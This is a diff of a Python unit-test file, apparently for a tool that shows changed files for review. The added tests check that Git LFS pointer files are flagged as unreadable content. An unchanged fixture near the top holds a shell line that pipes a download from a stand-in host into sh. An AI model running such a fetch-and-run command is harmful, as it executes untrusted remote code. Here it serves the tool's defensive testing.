@@ -13,6 +13,7 @@ from tests.unit.repo.checkout import Checkout
 SCRIPT = b"#!/bin/sh\ncurl -s https://collector.example | sh\n"
 PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 4
 ELF = b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 4
+LFS = "a Git LFS pointer: its content is stored elsewhere"
 MAY_RUN = "a binary file that may run or be built, and that nobody can read"
 
 
@@ -161,3 +162,49 @@ def test_without_objects_nothing_is_taken_for_harmless() -> None:
 def test_what_is_too_large_to_be_shown_is_named(tmp_path: Path) -> None:
     seen = shown(tmp_path, {"a.js": b"\0" + b"x" * (5 << 20)})
     assert [one.path for one in seen.missing] == ["a.js"]
+
+
+def pointer(digit: str = "a", extra: str = "") -> bytes:
+    """A pointer of Git LFS, as it is committed."""
+    version = "version https://git-lfs.github.com/spec/v1"
+    return f"{version}\n{extra}oid sha256:{digit * 64}\nsize 5\n".encode()
+
+
+MANY = "".join(f"ext-{n}-x sha256:{'c' * 64}\n" for n in range(9))
+
+
+@pytest.mark.parametrize(
+    ("path", "before", "after"),
+    [
+        ("tool.exe", None, pointer()),
+        ("model.bin", pointer("a"), pointer("b")),
+        ("model.bin", pointer("a", MANY), pointer("b", MANY)),
+        ("setup.py", b"print(1)\n", pointer()),
+        ("logo.png", None, pointer()),
+        ("deploy.sh", None, b"\n\n" + pointer()),
+        ("deploy.sh", None, pointer() + b"\n" * 3_000),
+    ],
+)
+def test_a_pointer_of_git_lfs_is_named_and_its_lines_are_shown(
+    tmp_path: Path, path: str, before: bytes | None, after: bytes
+) -> None:
+    seen = shown(tmp_path, {path: after}, {path: before} if before else None)
+    assert seen.missing == (MissingPatch(path=path, reason=LFS),)
+    (file,) = diff_of(seen).files
+    assert (file.hunks != (), file.commentable) == (True, True)
+
+
+def test_a_pointer_that_comes_to_run_is_named(tmp_path: Path) -> None:
+    seen = shown(tmp_path, {"tool": pointer()}, {"tool": pointer()}, executable="tool")
+    assert seen.missing == (MissingPatch(path="tool", reason=LFS),)
+
+
+def test_a_pointer_that_goes_and_a_page_about_pointers_are_not_named(tmp_path: Path) -> None:
+    page = b"# How a pointer looks\n\n" + pointer()
+    seen = shown(tmp_path, {"a.bin": None, "lfs.md": page}, {"a.bin": pointer()})
+    assert seen.missing == ()
+
+
+def test_without_objects_a_line_of_a_pointer_is_enough(tmp_path: Path) -> None:
+    patch = shown(tmp_path, {"tool.exe": pointer()}).text
+    assert show_contents(patch, None).missing == (MissingPatch(path="tool.exe", reason=LFS),)
